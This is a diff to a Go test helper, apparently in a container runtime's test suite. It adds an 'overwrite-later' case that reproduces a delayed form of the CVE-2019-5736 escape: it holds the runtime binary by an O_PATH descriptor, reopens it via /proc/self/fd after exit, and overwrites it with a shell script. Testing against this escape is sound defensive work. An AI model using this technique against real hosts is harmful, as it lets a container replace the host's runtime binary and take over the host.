@@ -58,6 +58,27 @@ func TestMain(m *testing.M) {
 // result a shell cannot print as clearly.
 func helper(args []string) int {
 	switch args[0] {
+	case "overwrite-later":
+		// The exploit's patient form: hold the runtime's binary by an
+		// O_PATH descriptor now, and reopen it for writing once the
+		// runtime has exited (the kernel refuses writes to a file being
+		// executed, ETXTBSY, only while it is).
+		fd, err := unix.Open(args[1], unix.O_PATH, 0)
+		if err != nil {
+			fmt.Printf("open: %v\n", err)
+			return 0
+		}
+		fmt.Println("held")
+		var line string
+		fmt.Scanln(&line)
+		f, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", fd), os.O_WRONLY, 0)
+		if err != nil {
+			fmt.Printf("open for writing: %v\n", err)
+			return 0
+		}
+		_, err = f.Write([]byte("#!/bin/sh\necho pwned\n"))
+		fmt.Printf("write: %v\n", err)
+		return 0
 	case "overwrite":
 		// CVE-2019-5736: open the file behind a /proc/PID/exe link for
 		// writing, and write.
